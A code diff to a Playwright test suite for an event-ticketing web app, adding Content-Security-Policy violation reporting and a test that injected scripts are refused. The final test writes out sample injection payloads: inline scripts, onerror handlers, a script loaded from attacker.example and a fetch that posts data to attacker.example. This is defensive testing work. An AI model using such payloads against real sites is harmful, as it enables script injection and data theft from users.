@@ -41,8 +41,29 @@ interface Watched {
   errors: string[]
 }
 
-/** A page whose console errors and uncaught exceptions are collected for the final assertion. */
+/**
+ * Reports every Content-Security-Policy violation on the page as a console error, blocked URL and
+ * directive named, so that the console assertion covers the policy too. Runs before the page's
+ * own scripts; scripts a test adds through DevTools (page.evaluate) are not subject to the policy.
+ */
+function reportPolicyViolations(): void {
+  const seen: string[] = []
+  ;(window as unknown as { policyViolations: string[] }).policyViolations = seen
+  document.addEventListener('securitypolicyviolation', (event) => {
+    const violation = `${event.effectiveDirective} blocked ${event.blockedURI || 'inline'}`
+    seen.push(violation)
+    console.error(`CSP violation: ${violation}`)
+  })
+}
+
+const policyViolations = (page: Page) =>
+  page.evaluate(() =>
+    [...new Set((window as unknown as { policyViolations: string[] }).policyViolations)].sort(),
+  )
+
+/** A page whose console errors, CSP violations and uncaught exceptions are collected for the final assertion. */
 async function openPage(context: BrowserContext, name: string): Promise<Watched> {
+  await context.addInitScript(reportPolicyViolations)
   const page = await context.newPage()
   const errors: string[] = []
   page.on('console', (message) => {
@@ -53,7 +74,8 @@ async function openPage(context: BrowserContext, name: string): Promise<Watched>
 }
 
 async function assertAccessible(page: Page, name: string): Promise<void> {
-  await page.addScriptTag({ content: axe.source })
+  // Evaluated through DevTools: the page's policy refuses inline scripts, as it should.
+  await page.evaluate(axe.source)
   const violations = await page.evaluate(async () => {
     const result = await (window as unknown as { axe: typeof axe }).axe.run(document, {
       resultTypes: ['violations'],
@@ -138,7 +160,9 @@ test('an admin opens a sale with a waiting room; three buyers are admitted in jo
   const { server, watched, newContext } = await startStack(t)
   // The admin signs in; the form refuses bad input before sending it.
   const console_ = await newContext('admin', viewports.desktop)
-  await console_.goto('/admin')
+  const served = await console_.goto('/admin')
+  // The whole sale below runs under the app's policy; a violation would be a console error.
+  assert.match((await served?.headerValue('content-security-policy')) ?? '', /script-src 'self'/)
   await console_.getByRole('button', { name: 'Sign in' }).click()
   await console_.getByText('Enter an email address like name@example.com.').waitFor(wait)
   await capture(console_, 'admin-login')
@@ -317,4 +341,83 @@ test('a seated event without a waiting room: pick seats, a declined card, then a
     [],
     'no console errors',
   )
+})
+
+// Issue 15.12. To see it fail, drop the content-security-policy hook in src/modules/web/web.plugin.ts:
+// the injected script runs and nothing is reported.
+test('the page refuses scripts injected into it and requests to other origins, and says so', async (t) => {
+  const { newContext } = await startStack(t)
+  const page = await newContext('attacker', viewports.desktop)
+  await page.goto('/')
+  await page.getByRole('heading', { name: 'Events' }).waitFor(wait)
+  // What an injection would try: an inline script, an inline handler, a foreign script, and
+  // sending the stored session elsewhere. Each attempt that throws is refused at once.
+  const thrown = await page.evaluate(async () => {
+    // Pairs, not an object: tsx would name the functions with a helper the page does not have.
+    const attempts: [string, () => unknown][] = [
+      [
+        'inline script',
+        () => {
+          const script = document.createElement('script')
+          script.textContent = 'window.stolen = localStorage.length'
+          document.body.append(script)
+        },
+      ],
+      [
+        'inline handler',
+        () => {
+          const image = document.createElement('img')
+          image.setAttribute('onerror', 'window.stolen = 1')
+          image.setAttribute('src', 'data:,')
+          document.body.append(image)
+        },
+      ],
+      [
+        'foreign script',
+        () => {
+          const script = document.createElement('script')
+          script.setAttribute('src', 'https://attacker.example/steal.js')
+          document.body.append(script)
+        },
+      ],
+      [
+        'markup with a script',
+        () => {
+          document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.stolen = 1">')
+        },
+      ],
+      [
+        'sending data elsewhere',
+        () => fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }),
+      ],
+    ]
+    const refused: string[] = []
+    for (const [name, attempt] of attempts) {
+      try {
+        await attempt()
+      } catch {
+        refused.push(name)
+      }
+    }
+    return refused
+  })
+  // Trusted Types refuse script text, handlers, script URLs and markup before they reach the DOM;
+  // connect-src refuses the request. Each refusal is also reported as a violation.
+  assert.deepEqual(thrown, [
+    'inline script',
+    'inline handler',
+    'foreign script',
+    'markup with a script',
+    'sending data elsewhere',
+  ])
+  await page.waitForFunction(
+    () => new Set((window as unknown as { policyViolations: string[] }).policyViolations).size >= 2,
+    undefined,
+    wait,
+  )
+  assert.deepEqual(await policyViolations(page), [
+    'connect-src blocked https://attacker.example/collect',
+    'require-trusted-types-for blocked trusted-types-sink',
+  ])
+  assert.equal(await page.evaluate(() => (window as unknown as { stolen?: number }).stolen), undefined)
 })
